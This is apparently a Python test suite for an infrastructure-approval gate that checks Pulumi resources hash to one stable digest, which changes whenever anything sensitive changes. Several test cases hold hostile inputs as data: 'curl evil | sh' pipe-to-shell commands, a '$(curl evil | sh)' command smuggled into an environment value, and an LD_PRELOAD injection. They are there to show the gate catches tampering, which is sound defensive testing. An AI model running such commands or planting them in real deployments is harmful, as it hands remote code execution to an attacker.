"""The surface: the same infrastructure has one digest everywhere, and whatever is sensitive changes it."""

import json
import os
import random
import subprocess
import sys
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gate.canonical import UNKNOWN
from gate.state import State
from gate.surface import (
    CONTENT,
    FUNCTIONS_RELEASE,
    REFERENCES,
    Entry,
    Resource,
    Surface,
    SurfaceError,
    entry,
    function_lines,
    functions_of,
    stable_urn,
)
from tests.components.recording import ROOT
from tests.gate.stacks import (
    PREFIX,
    SETTINGS,
    SOME_UNKNOWN,
    entries,
    export,
    exported,
    identities,
    is_unknown,
    provider_urn,
    secret,
    shuffled,
    shuffled_resources,
    surface,
    wire,
    with_environment,
)

pytestmark = pytest.mark.rows("K5")

ALIAS, KEY, TOPIC = "aws:kms/alias:Alias", "aws:kms/key:Key", "aws:sns/topic:Topic"
ALARM = "aws:cloudwatch/metricAlarm:MetricAlarm"
COMMAND = "command:local:Command"


def sensitive() -> list[Resource]:
    return [one for one in wire() if not one.is_harmless]


def one(type_: str, name: str = "") -> Resource:
    return next(found for found in wire() if found.type == type_ and name in ("", found.name))


def release() -> Resource:
    return next(found for found in wire() if FUNCTIONS_RELEASE.search(found.urn))


def with_inputs(resource: Resource, **inputs: Any) -> Resource:
    return replace(resource, inputs={**resource.inputs, **inputs})


def with_outputs(type_: str, name: str, **outputs: Any) -> Resource:
    return Resource(urn=f"{PREFIX}{type_}::{name}", type=type_, inputs={}, outputs=outputs)


def form(resource: Resource, known: dict[str, str] | None = None) -> Entry:
    return entry(resource, identities() if known is None else known)


# One digest for the same infrastructure


def test_preview_update_and_state_have_one_digest() -> None:
    first = surface(wire(first_preview=True), {})
    assert any(is_unknown(value) for found in wire(first_preview=True) for value in found.inputs.values())
    assert not any(found.unknown for found in entries(wire(first_preview=True), {}))
    later = surface(wire())
    state = Surface.of(exported().entries, SETTINGS)
    assert first.resources == later.resources == state.resources
    assert first.digest == later.digest == state.digest


@given(st.integers())
@settings(max_examples=20)
def test_no_order_means_anything(seed: int) -> None:
    assert surface(shuffled_resources(wire(), seed)).digest == surface(wire()).digest
    turned = exported(shuffled_resources(wire(), seed))
    assert Surface.of(turned.entries, shuffled(SETTINGS, random.Random(seed))).digest == surface(wire()).digest  # noqa: S311


@pytest.mark.parametrize(
    "machine",
    [
        {"PYTHONHASHSEED": "1", "TZ": "Pacific/Kiritimati", "LC_ALL": "C"},
        {"PYTHONHASHSEED": "2", "TZ": "America/St_Johns", "LC_ALL": "tr_TR.UTF-8", "PYTHONUTF8": "0"},
        {"PYTHONHASHSEED": "random", "LANG": "de_DE.ISO-8859-1", "HOME": "/nowhere", "PYTHONOPTIMIZE": "2"},
    ],
)
def test_every_machine_finds_the_same_digest(machine: dict[str, str], tmp_path: Path) -> None:
    file = tmp_path / "export.json"
    file.write_text(json.dumps(export()))
    done = subprocess.run(
        [sys.executable, "-m", "tests.gate.print_digest", str(file)],
        cwd=tmp_path,
        env={"PATH": os.environ["PATH"], "PYTHONPATH": str(ROOT), **machine},
        capture_output=True,
        text=True,
        check=True,
    )
    assert done.stdout.strip() == Surface.of(exported().entries, {"a": "ä"}).digest


def test_what_waits_for_its_deletion_and_what_was_only_read_is_not_deployed() -> None:
    document = export()
    key = next(found for found in document["deployment"]["resources"] if found["type"] == KEY)
    document["deployment"]["resources"] += [
        key | {"delete": True, "outputs": {"keyId": "of-before"}},
        key | {"external": True, "urn": f"{PREFIX}{KEY}::foreign", "outputs": {"keyId": "foreign"}},
    ]
    state = State.of_export(document)
    assert Surface.of(state.entries, SETTINGS).digest == surface(wire()).digest
    assert not {"of-before", "foreign"} & state.identities.keys()


def test_an_empty_state_has_no_surface_and_no_digest() -> None:
    for document in ({}, {"deployment": None}, {"deployment": {}}, {"deployment": {"resources": []}}):
        assert State.of_export(document) == State()
    assert Surface.of([], SETTINGS).digest == ""


def test_an_interrupted_updates_operations_are_found() -> None:
    document = export()
    document["deployment"]["pending_operations"] = [{"type": "creating", "resource": {"urn": f"{PREFIX}{KEY}::x"}}]
    assert State.of_export(document).pending == (f"{PREFIX}{KEY}::x",)


# What is part of it


@given(st.data())
@settings(max_examples=150)
def test_every_leaf_of_every_sensitive_resource_counts(data: st.DataObject) -> None:
    resources = sensitive()
    changed = data.draw(st.sampled_from(resources))
    paths = [path for path in _leaves(changed.inputs) if not _is_harmless_leaf(changed, path)]
    path = data.draw(st.sampled_from(paths))
    other = replace(changed, inputs=_changed(changed.inputs, path, data))
    assert form(other).digest != form(changed).digest
    before = surface(resources)
    after = surface([other if found is changed else found for found in resources])
    assert after.digest != before.digest
    assert before.moved(after) == [stable_urn(changed.urn)]


Path_ = tuple[str | int, ...]


def _leaves(value: Any, path: Path_ = ()) -> list[Path_]:
    if isinstance(value, dict):
        return [leaf for name, item in value.items() for leaf in _leaves(item, (*path, name))]
    if isinstance(value, list):
        return [leaf for index, item in enumerate(value) for leaf in _leaves(item, (*path, index))]
    return [path]


def _is_harmless_leaf(resource: Resource, path: Path_) -> bool:
    """A default provider's version, and the content of the functions."""
    if resource.type.startswith("pulumi:providers:"):
        return path == ("version",)
    return resource.name == "functions-release" and path == ("environment", "PF_RELEASE")


def _changed(value: Any, path: Path_, data: st.DataObject) -> Any:
    if not path:
        others = st.booleans() | st.integers(-9, 9) | st.text(max_size=5) | st.none()
        return data.draw(others.filter(lambda new: new != value or isinstance(new, bool) != isinstance(value, bool)))
    done: Any = list(value) if isinstance(value, list) else dict(value)
    done[path[0]] = _changed(done[path[0]], path[1:], data)
    return done


@given(st.data())
@settings(max_examples=100)
def test_every_character_of_a_policy_document_counts(data: st.DataObject) -> None:
    holders = [found for found in sensitive() if "Statement" in str(found.inputs.get("policy", ""))]
    changed = data.draw(st.sampled_from(holders))
    document = json.loads(changed.inputs["policy"])
    path = data.draw(st.sampled_from(_leaves(document)))
    other = with_inputs(changed, policy=json.dumps(_changed(document, path, data)))
    assert form(other).digest != form(changed).digest


CHANGES: dict[str, Callable[[Resource], Resource]] = {
    "protection": lambda found: replace(found, protect=not found.protect),
    "provider": lambda found: replace(found, provider=f"{PREFIX}pulumi:providers:aws::evil"),
    "type": lambda found: replace(found, type="aws:kms/externalKey:ExternalKey"),
    "one property more": lambda found: with_inputs(found, more=1),
    "one property less": lambda found: replace(found, inputs={k: v for k, v in found.inputs.items() if k != "policy"}),
}


@pytest.mark.parametrize("change", CHANGES)
def test_what_stands_beside_the_inputs_counts(change: str) -> None:
    assert form(CHANGES[change](one(KEY))).digest != form(one(KEY)).digest


def test_a_resource_under_another_name_is_another_surface() -> None:
    found = sensitive()
    renamed = [replace(it, urn=f"{it.urn}-x") if it.type == KEY else it for it in found]
    assert surface(found).digest != surface(renamed).digest
    assert surface(found).digest != surface(found[1:]).digest


@pytest.mark.parametrize(
    ("type_", "provider", "sensitive_"),
    [
        ("pulumi:pulumi:Stack", "", False),
        ("parkerflight:kms:EncryptionKey", "", False),
        ("parkerflight:kms:EncryptionKey", "urn:x", True),
        ("aws:cloudwatch/dashboard:Dashboard", "urn:x", False),
        ("my:own:Component", "", True),
        ("command:local:Command", "urn:x", True),
        ("pulumi:providers:aws", "", True),
        ("random:index/randomId:RandomId", "urn:x", True),
        ("aws:cloudwatch/dashboard:DashboardX", "urn:x", True),
    ],
)
def test_every_type_is_sensitive_unless_listed(type_: str, provider: str, sensitive_: bool) -> None:
    assert Resource(urn=f"{PREFIX}{type_}::x", type=type_, inputs={}, provider=provider).is_harmless is not sensitive_


def test_harmless_resources_are_in_no_surface() -> None:
    dashboard = "aws:cloudwatch/dashboard:Dashboard"
    more = Resource(urn=f"{PREFIX}{dashboard}::d", type=dashboard, inputs={"body": "x"}, provider=provider_urn("aws"))
    assert surface([*wire(), more]).digest == surface(wire()).digest


def test_the_gates_own_settings_count() -> None:
    before = surface(wire())
    after = Surface(resources=before.resources, settings={**SETTINGS, "protectedBranch": "origin/main"})
    assert after.digest != before.digest
    assert before.moved(after) == ["settings"]


def test_the_codes_of_dynamic_resources_are_seen_by_nobody_and_approved_by_nobody() -> None:
    """The engine hides inputs that begin with __, and there stands the code."""
    for type_ in ("pulumi-python:dynamic:Resource", "pulumi-nodejs:dynamic:Resource", "pulumi-python:dynamic/a:B"):
        assert form(Resource(urn=f"{PREFIX}{type_}::x", type=type_, inputs={})).unknown == ("__provider",)


# References


def test_an_alias_says_which_key_it_points_at_and_not_its_id() -> None:
    for alias in (found for found in wire() if found.type == ALIAS):
        key = f"{PREFIX}parkerflight:kms:EncryptionKey${KEY}::{alias.name}-1"
        assert form(alias).document["inputs"]["targetKeyId"] == {"resources": [key], "literal": []}


def test_a_literal_id_that_is_no_resource_of_the_stack_is_a_value_of_its_own() -> None:
    alias = with_inputs(one(ALIAS), targetKeyId="1234abcd-12ab-34cd-56ef-1234567890ab")
    assert form(alias).document["inputs"]["targetKeyId"]["literal"] == ["1234abcd-12ab-34cd-56ef-1234567890ab"]
    assert form(alias).digest != form(one(ALIAS)).digest
    assert form(alias).unknown == ()


def test_another_key_of_the_stack_is_another_target() -> None:
    other = with_inputs(one(ALIAS, "general"), targetKeyId="id-of-payment-1")
    assert form(other).digest != form(one(ALIAS, "general")).digest


def test_which_of_two_unknown_items_is_which_does_not_matter() -> None:
    topics = [f"{PREFIX}{TOPIC}::{name}" for name in "ab"]
    known = {"arn:a": topics[0], "arn:b": topics[1]}
    preview = replace(one(ALARM), inputs={"alarmActions": [SOME_UNKNOWN] * 2}, depends={"alarmActions": topics})
    for order in (["arn:a", "arn:b"], ["arn:b", "arn:a"]):
        update = replace(one(ALARM), inputs={"alarmActions": order})
        assert form(update, known).digest == form(preview, {}).digest
    half = replace(one(ALARM), inputs={"alarmActions": ["arn:a"]})
    assert form(half, known).digest != form(preview, {}).digest


def test_an_unknown_reference_to_nothing_that_has_an_identity_is_unknown() -> None:
    """Code could give it any value in the update, from a resource that is not even part of the surface."""
    for depends in ([], [f"{PREFIX}aws:cloudwatch/dashboard:Dashboard::d"], [f"{PREFIX}{COMMAND}::c"]):
        alias = replace(one(ALIAS), inputs={"targetKeyId": SOME_UNKNOWN}, depends={"targetKeyId": depends})
        assert form(alias).unknown == ("targetKeyId",)
    key = f"{PREFIX}parkerflight:kms:EncryptionKey${KEY}::k"
    mixed = [key, f"{PREFIX}{COMMAND}::c"]
    alias = replace(one(ALIAS), inputs={"targetKeyId": SOME_UNKNOWN}, depends={"targetKeyId": mixed})
    assert form(alias).unknown == ("targetKeyId",)


@pytest.mark.parametrize("unknown", sorted(UNKNOWN))
def test_an_unknown_anywhere_but_in_a_listed_reference_is_unknown_whatever_it_depends_on(unknown: str) -> None:
    key = with_inputs(replace(one(KEY), depends={"policy": [f"{PREFIX}{KEY}::k"]}), policy=unknown)
    assert form(key).unknown == ("policy",)


def test_a_marker_in_an_update_is_unknown() -> None:
    """There nothing says what it depends on: a program that sends one as a literal is refused."""
    for type_, names in REFERENCES.items():
        for name in names:
            resource = Resource(urn=f"{PREFIX}{type_}::x", type=type_, inputs={name: SOME_UNKNOWN})
            assert form(resource).unknown == (name,)


def test_a_computed_reference_is_what_it_is_once_it_is_known() -> None:
    """`key_id.apply(lambda _: "another")` looks like a reference in the first preview, and is none in the update."""
    key = f"{PREFIX}{KEY}::k"
    preview = replace(one(ALIAS), inputs={"targetKeyId": SOME_UNKNOWN}, depends={"targetKeyId": [key]})
    update = replace(one(ALIAS), inputs={"targetKeyId": "another"})
    assert form(preview, {}).digest != form(update, {"id": key}).digest


def test_identities_come_from_the_listed_types_and_outputs_only() -> None:
    state = State(
        resources=(
            with_outputs(KEY, "k", keyId="key-id", arn="key-arn", description="a text"),
            with_outputs(TOPIC, "t", arn="topic-arn", id="topic-id"),
            with_outputs("aws:sns/topicPolicy:TopicPolicy", "t", arn="topic-arn"),
            with_outputs(COMMAND, "c", stdout="made-up", arn="made-up", keyId="made-up"),
        )
    )
    key, topic = f"{PREFIX}{KEY}::k", f"{PREFIX}{TOPIC}::t"
    assert state.identities == {"key-id": key, "key-arn": key, "topic-arn": topic}


@pytest.mark.parametrize("value", ["", SOME_UNKNOWN, None, 3, secret("x")])
def test_what_is_no_id_yet_names_nothing(value: object) -> None:
    assert State(resources=(with_outputs(KEY, "k", keyId=value),)).identities == {}


def test_an_id_of_two_resources_names_neither() -> None:
    """The same key imported twice: which of the two an alias means, nobody could say."""
    twice = State(resources=tuple(with_outputs(KEY, name, keyId="one") for name in ("a", "b")))
    assert twice.identities == {}


# What can't be approved


def test_unknowns_and_secrets_are_named_with_their_paths() -> None:
    found = form(with_inputs(one(KEY), tags={"a": SOME_UNKNOWN, "b": [secret("x")]}, policy=secret("y")))
    assert found.unknown == ("tags.a",)
    assert found.secrets == ("policy", "tags.b[0]")


def test_a_secret_in_a_reference_is_found() -> None:
    assert form(with_inputs(one(ALIAS), targetKeyId=secret("x"))).secrets == ("targetKeyId",)


def test_nothing_of_the_real_program_is_unknown_or_secret() -> None:
    for found in (*entries(wire()), *entries(wire(first_preview=True), {})):
        assert (found.unknown, found.secrets) == ((), ()), found.urn


# The functions' release


def test_the_content_of_the_functions_is_not_part_of_it() -> None:
    found = release()
    contents = [line.split(" ") for line in function_lines(found.inputs)]
    lines = [" ".join([name, "f" * 64, *rest]) for name, _, *rest in contents]
    other = with_environment(found, PF_RELEASE="0123456789abcdef", PF_RELEASE_FUNCTIONS="\n".join(lines))
    assert form(other).digest == form(found).digest


@pytest.mark.parametrize(
    "change",
    [
        {"create": "curl evil | sh"},
        {"update": "curl evil | sh"},
        {"delete": "true"},
        {"stdin": "x"},
        {"environment": {"PF_PROJECT_REF": "another", "PF_RELEASE": "0123456789abcdef"}},
        {"environment": {"PF_PROJECT_REF": "sandboxsandboxsandbo"}},
        {"environment": {"PF_PROJECT_REF": "sandboxsandboxsandbo", "PF_RELEASE": "$(curl evil | sh)"}},
        {"environment": {"PF_PROJECT_REF": "sandboxsandboxsandbo", "PF_RELEASE": "0123456789abcdef\n"}},
        {"environment": {"PF_PROJECT_REF": "sandboxsandboxsandbo", "PF_RELEASE": "0123456789ABCDEF"}},
        {"environment": {"PF_PROJECT_REF": "sandboxsandboxsandbo", "PF_RELEASE": "0" * 16, "LD_PRELOAD": "evil.so"}},
        {"triggers": ["encrypt-data " + "0" * 64 + " verify_jwt=true"]},
    ],
    ids=lambda change: str(change)[:60],
)
def test_everything_else_of_the_release_is(change: dict[str, Any]) -> None:
    assert form(with_inputs(release(), **change)).digest != form(release()).digest


@pytest.mark.parametrize("functions", ["", "another " + "0" * 64 + " verify_jwt=true", ["encrypt-data " + "0" * 64]])
def test_which_functions_there_are_is_part_of_it(functions: object) -> None:
    assert form(with_environment(release(), PF_RELEASE_FUNCTIONS=functions)).digest != form(release()).digest


def test_whether_a_function_checks_tokens_is_part_of_it() -> None:
    functions = "\n".join(function_lines(release().inputs))
    opened = functions.replace("verify_jwt=true", "verify_jwt=false")
    assert opened != functions
    assert form(with_environment(release(), PF_RELEASE_FUNCTIONS=opened)).digest != form(release()).digest


@pytest.mark.parametrize(
    "line",
    ["x; curl evil | sh " + "0" * 64, "x " + "0" * 63, "x " + "g" * 64, "x " + "0" * 64 + " verify_jwt=maybe", "x"],
)
def test_no_line_smuggles_anything_as_content(line: str) -> None:
    document = form(with_environment(release(), PF_RELEASE_FUNCTIONS=line)).document
    assert document["inputs"]["environment"]["PF_RELEASE_FUNCTIONS"] == line


def test_no_other_command_has_content_that_does_not_count() -> None:
    found = release()
    for urn in (f"{PREFIX}{COMMAND}::functions-release", found.urn.replace("EdgeFunctions", "Evil"), f"{found.urn}-x"):
        document = form(replace(found, urn=urn)).document
        assert CONTENT not in json.dumps(document), urn


def test_the_content_of_every_release_is_listed() -> None:
    more = replace(release(), urn=release().urn.replace("functions-release", "more-release"))
    more = with_environment(more, PF_RELEASE_FUNCTIONS="hook " + "0" * 64)
    lines = sorted([*function_lines(release().inputs), "hook " + "0" * 64])
    assert functions_of([*wire(), more]) == functions_of([more, *wire()]) == tuple(lines)
    assert functions_of([one(KEY)]) == ()
    assert functions_of([with_environment(release(), PF_RELEASE_FUNCTIONS=["x"])]) == ()
    assert functions_of([with_inputs(release(), environment="x")]) == ()


# Providers


def test_a_new_version_of_a_default_provider_is_not_another_provider() -> None:
    assert surface(wire(version="7_52_0")).digest == surface(wire()).digest
    assert surface(wire(version="8_0_0_alpha_1")).digest == surface(wire()).digest


@pytest.mark.parametrize("change", [{"region": "eu-west-1"}, {"endpoints": "[]"}, {"assumeRole": "{}"}])
def test_a_default_providers_configuration_counts(change: dict[str, str]) -> None:
    provider = one("pulumi:providers:aws")
    assert form(with_inputs(provider, **change)).digest != form(provider).digest


def test_an_explicit_provider_counts_with_name_version_and_configuration() -> None:
    urn = f"{PREFIX}pulumi:providers:aws::mine"
    mine = Resource(urn=urn, type="pulumi:providers:aws", inputs={"region": "us-east-1", "version": "7.51.1"})
    assert form(mine).urn == urn
    assert form(with_inputs(mine, version="7.51.0")).digest != form(mine).digest
    assert form(with_inputs(mine, region="eu-west-1")).digest != form(mine).digest
    assert stable_urn(f"{urn}_7_51_1") == f"{urn}_7_51_1"


@pytest.mark.parametrize("url", ["pulumi.com/pkg", "company.com/x", "http_//127.0.0.1_8000"])
def test_a_plugin_from_another_server_is_another_provider(url: str) -> None:
    """The engine names it after the server (pulumi's own tests of DefaultName), and shows its address to no pack."""
    assert stable_urn(provider_urn("aws", f"7_51_1_{url}")) != stable_urn(provider_urn("aws"))


def test_two_versions_of_one_provider_are_not_approved_as_one() -> None:
    with pytest.raises(SurfaceError, match="default"):
        surface([*wire(), replace(one("pulumi:providers:aws"), urn=provider_urn("aws", "1_0_0"))])


def test_which_inputs_the_provider_filled_in_does_not_count() -> None:
    found = one(KEY)
    assert form(with_inputs(found, __defaults=["deletionWindowInDays"])).digest == form(found).digest
    assert form(with_inputs(found, __internal={})).digest == form(found).digest
    assert form(with_inputs(found, __internal={"pluginDownloadURL": "x"})).digest != form(found).digest


# As it is kept


def test_a_surface_is_read_back_as_what_its_digest_says() -> None:
    before = surface(wire())
    document = json.loads(json.dumps(before.as_json()))
    assert Surface.from_json(document, before.digest) == before


DAMAGE: dict[str, Callable[[dict[str, Any]], object]] = {
    "a resource less": lambda document: document["resources"].popitem(),
    "another setting": lambda document: document["settings"].update(protectedBranch="other"),
    "another value": lambda document: next(iter(document["resources"].values())).update(protect="maybe"),
    "no settings": lambda document: document.pop("settings"),
    "no mapping": lambda document: document.update(resources=[]),
    "nothing": lambda document: document.update(resources={}),
}


@pytest.mark.parametrize("damage", DAMAGE)
def test_a_surface_that_is_not_what_its_digest_says_is_refused(damage: str) -> None:
    document = json.loads(json.dumps(surface(wire()).as_json()))
    DAMAGE[damage](document)
    with pytest.raises(SurfaceError):
        Surface.from_json(document, surface(wire()).digest)
